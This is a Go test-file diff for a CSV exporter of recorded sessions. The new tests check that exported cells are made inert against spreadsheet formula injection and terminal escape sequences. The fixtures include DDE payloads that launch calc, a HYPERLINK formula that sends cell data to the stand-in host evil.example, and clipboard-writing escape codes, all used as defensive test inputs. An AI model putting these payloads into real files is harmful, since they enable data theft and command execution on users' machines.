@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"errors"
 	"io"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -34,7 +35,8 @@ func TestCSVColumnsMatchPositions(t *testing.T) {
 }
 
 // TestCSVRoundTrip exports two real sessions and reads the file back with
-// encoding/csv: one row per event, every value as recorded.
+// encoding/csv: one row per event, every value as recorded once made inert
+// (CSVCell).
 func TestCSVRoundTrip(t *testing.T) {
 	s := fixtureStore(t)
 	old := recordSession(t, s, time.Now().Add(-2*time.Hour), everyKind)
@@ -78,7 +80,7 @@ func TestCSVRoundTrip(t *testing.T) {
 		}
 		switch b := ev.Body.(type) {
 		case *transcript.BashRun:
-			if row[colCommand] != strings.ReplaceAll(b.Command, "\r\n", "\n") || row[colStdout] != strings.ReplaceAll(b.Stdout, "\r\n", "\n") || row[colStderr] != b.Stderr {
+			if row[colCommand] != CSVCell(b.Command) || row[colStdout] != CSVCell(b.Stdout) || row[colStderr] != CSVCell(b.Stderr) {
 				t.Errorf("row %d bash fields %q %q", i+1, row[colCommand], row[colStdout])
 			}
 			if b.ExitCode != nil && row[colExitCode] != map[int]string{0: "0", 1: "1"}[*b.ExitCode] {
@@ -147,11 +149,13 @@ func TestCSVWriteErrorIsReported(t *testing.T) {
 }
 
 // FuzzCSVRow checks that any text in any field makes exactly one row that
-// reads back to the same text.
+// reads back as CSVCell of the text: inert, and never a formula.
 func FuzzCSVRow(f *testing.F) {
 	f.Add("git status", "out\n", "")
 	f.Add("a,\"b\"", "\r\n\x00", "\xff\xfe")
 	f.Add("", "", "=cmd|'/C calc'!A0")
+	f.Add("+1", "-2.5e3", "@SUM(A1)")
+	f.Add("\tx", "\r=1", "-1+cmd|' /C calc'!A0")
 	f.Fuzz(func(t *testing.T, command, stdout, text string) {
 		var buf bytes.Buffer
 		w, err := NewCSVWriter(&buf)
@@ -182,27 +186,71 @@ func FuzzCSVRow(f *testing.F) {
 			}
 			rows = append(rows, row)
 		}
-		norm := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
-		if len(rows) != 3 || rows[1][colCommand] != norm(command) || rows[1][colStdout] != norm(stdout) || rows[2][colText] != norm(text) {
+		if len(rows) != 3 || rows[1][colCommand] != CSVCell(command) || rows[1][colStdout] != CSVCell(stdout) || rows[2][colText] != CSVCell(text) {
 			t.Errorf("round trip of %q %q %q: %q", command, stdout, text, rows)
+		}
+		for _, row := range rows[1:] {
+			for _, cell := range row {
+				checkInertCell(t, cell)
+			}
 		}
 	})
 }
 
-func TestCSVInertTextForTerminals(t *testing.T) {
+// checkInertCell fails unless cell is inert text that no spreadsheet takes
+// for a formula.
+func checkInertCell(t *testing.T, cell string) {
+	t.Helper()
+	if !transcript.IsInert(cell) {
+		t.Errorf("cell %q is not inert", cell)
+	}
+	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+		if _, err := strconv.ParseFloat(cell, 64); err != nil {
+			t.Errorf("cell %q starts a formula", cell)
+		}
+	}
+}
+
+// TestCSVIsInert: what a hostile recording holds — a terminal title escape,
+// a clipboard write, spreadsheet formulas — is written as visible text, in
+// a file or on a terminal: a cat of the CSV acts on nothing and a
+// spreadsheet evaluates nothing (OWASP's CSV injection rule).
+func TestCSVIsInert(t *testing.T) {
 	var buf bytes.Buffer
 	w, err := NewCSVWriter(&buf)
 	if err != nil {
 		t.Fatal(err)
 	}
-	w.InertText = true
-	if err := w.Write(transcript.New("s", time.Unix(1, 0), &transcript.BashRun{Command: "printf", Stdout: "\x1b]52;c;eA==\x07 \u202e"})); err != nil {
+	code := -1
+	for _, b := range []transcript.Body{
+		&transcript.BashRun{Command: `=HYPERLINK("http://evil.example/?"&A1,"click")`, ExitCode: &code,
+			Stdout: "\x1b]0;pwned\x07\x1b]52;c;eA==\x07 \u202e", Stderr: "+cmd|' /C calc'!A0"},
+		&transcript.ChatTurn{Role: "user", Text: "@SUM(1+1)*cmd|' /C calc'!A0"},
+		&transcript.ChatTurn{Role: "user", Text: "\t=1+1"},
+		&transcript.ChatTurn{Role: "user", Text: "\r=1+1"},
+		&transcript.ChatTurn{Role: "user", Text: "-2+3"},
+	} {
+		if err := w.Write(transcript.New("s", time.Unix(1, 0), b)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	w.Close()
+	if s := buf.String(); strings.ContainsAny(s, "\x1b\x07\u202e") || !strings.Contains(s, `\x1b]0;pwned\x07`) {
+		t.Errorf("control characters written raw: %q", s)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := w.Close(); err != nil {
-		t.Fatal(err)
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			checkInertCell(t, cell)
+		}
 	}
-	if s := buf.String(); strings.ContainsAny(s, "\x1b\x07\u202e") || !strings.Contains(s, `\x1b]52;c;eA==\x07 \u202e`) {
-		t.Errorf("not inert: %q", s)
+	if got := rows[1][colCommand]; got != `'=HYPERLINK("http://evil.example/?"&A1,"click")` {
+		t.Errorf("formula cell %q", got)
+	}
+	if got := rows[1][colExitCode]; got != "-1" {
+		t.Errorf("a negative number is not a formula: %q", got)
 	}
 }
